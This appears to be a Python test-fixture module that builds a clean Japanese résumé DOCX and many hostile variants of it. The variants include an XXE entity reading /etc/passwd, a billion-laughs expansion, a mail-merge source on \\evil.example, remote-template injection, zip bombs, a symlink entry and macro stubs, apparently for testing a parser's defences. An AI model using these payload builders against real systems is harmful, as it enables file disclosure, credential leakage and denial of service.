"""Word files, hostile and real, made in code: python-docx's own, then bent."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import docx
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIL_MERGE = '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=\\\\evil.example\\a"/></w:mailMerge>'
ENTITY = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE w [<!ENTITY a 'ha'>{}]>".format(
    "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefghi", "bcdefghij", strict=True))
)


@cache
def honest() -> bytes:
    """A career with a table, a header and a link to a page."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "職務経歴書"
    paragraph = document.add_paragraph("髙﨑𠮷の経歴。作ったもの：")
    link = document.part.relate_to("https://example.jp/works", f"{REL}/hyperlink", is_external=True)
    paragraph._p.append(
        parse_xml(f'<w:hyperlink {nsdecls("w", "r")} r:id="{link}"><w:r><w:t>作品</w:t></w:r></w:hyperlink>')
    )
    table = document.add_table(2, 2)
    for place, words in enumerate(("期間", "仕事", "2015年から", "設計")):
        table.cell(place // 2, place % 2).text = words
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(honest())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(held: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in held.items():
            archive.writestr(name, content)
    return out.getvalue()


def changed(name: str, old: str, new: str) -> bytes:
    held = parts()
    text = held[name].decode()
    assert old in text, name
    return packed({**held, name: text.replace(old, new, 1).encode()})


def related(kind: str, target: str, *, external: bool = True, part: str = "word/_rels/document.xml.rels") -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return changed(
        part,
        "</Relationships>",
        f'<Relationship Id="rIdX" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def with_template(target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    held = parts()
    held[part] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return packed(held)


def field(*runs: str, tag: str = "instrText") -> str:
    """A paragraph with a field whose code is cut into runs."""
    code = "".join(f'<w:r><w:{tag} xml:space="preserve">{run}</w:{tag}></w:r>' for run in runs)
    begin, end = ('<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in ("begin", "end"))  # noqa: UP031
    return f"<w:p>{begin}{code}{end}</w:p>"


def with_field(*runs: str, tag: str = "instrText") -> bytes:
    return changed("word/document.xml", "<w:sectPr", f"{field(*runs, tag=tag)}<w:sectPr")


def _renamed(old: str, new: str, held: dict[str, bytes]) -> dict[str, bytes]:
    """The part under another name, in the package and wherever it is named."""
    base = old.rpartition("/")[2]
    named = ((f"/{old}".encode(), f"/{new}".encode()), (f'"{old}"'.encode(), f'"{new}"'.encode()))
    local = (f'Target="{base}"'.encode(), f'Target="/{new}"'.encode())
    renamed = {}
    for name, content in held.items():
        for before, after in (*named, local):
            content = content.replace(before, after) if name.endswith((".rels", ".xml")) else content
        renamed[new if name == old else name] = content
    return renamed


def moved_to(place: str, code: str) -> bytes:
    """The document in another folder than Word's own, with a field."""
    held = parts()
    held["word/document.xml"] = held["word/document.xml"].replace(b"<w:sectPr", field(code).encode() + b"<w:sectPr", 1)
    return packed(_renamed("word/document.xml", place, held))


def renamed_header(place: str, code: str) -> bytes:
    """A header whose name does not say that it is XML, with a field."""
    held = parts()
    held["word/header1.xml"] = held["word/header1.xml"].replace(b"</w:hdr>", field(code).encode() + b"</w:hdr>")
    return packed(_renamed("word/header1.xml", place, held))


def typed(line: str) -> bytes:
    """One more line in the list of types, before the others."""
    return changed("[Content_Types].xml", "<Default", f"{line}<Default")


def adding(name: str, content: bytes = b"x") -> bytes:
    return packed({**parts(), name: content})


def with_macros() -> bytes:
    return packed({**parts(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})


def of_many_entries() -> bytes:
    return packed(parts() | {f"word/media/{n}.txt": b"" for n in range(2_001)})


def bomb() -> bytes:
    """A hundred megabytes and one from a hundred kilobytes."""
    return adding("word/media/a.bin", b"\x00" * (101 * 1024 * 1024))


def swollen_part() -> bytes:
    return adding("word/media/a.bin", b"\x00" * (20 * 1024 * 1024))


def overlapping() -> bytes:
    """Many entries of the directory that share the bytes of one (as David Fifield's bombs do)."""
    content = zlib.compressobj(9, zlib.DEFLATED, -15)
    held = content.compress(b"\x00" * 900_000) + content.flush()
    name, crc = b"a", zlib.crc32(b"\x00" * 900_000)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(held), 900_000, 1, 0) + name + held
    row = struct.Struct("<4sHHHHHHIIIHHHHHII")
    rows = b"".join(
        row.pack(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(held), 900_000, 2, 0, 0, 0, 0, 0, 0) + b"%c%c" % (97, n)
        for n in range(97, 117)
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 20, 20, len(rows), len(local) + 200_000, 0)
    return local + b"\x00" * 200_000 + rows + end


def symbolic_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/media/a.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked() -> bytes:
    """The shape of a Word file with a password: a compound file with the encrypted package inside."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 480


def with_zip_password() -> bytes:
    """Every entry marked as encrypted."""
    held = bytearray(honest())
    for start, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = held.find(start)
        while place >= 0:
            held[place + at] |= 1
            place = held.find(start, place + 4)
    return bytes(held)


def bent(change: Callable[[bytes], bytes]) -> bytes:
    return change(honest())
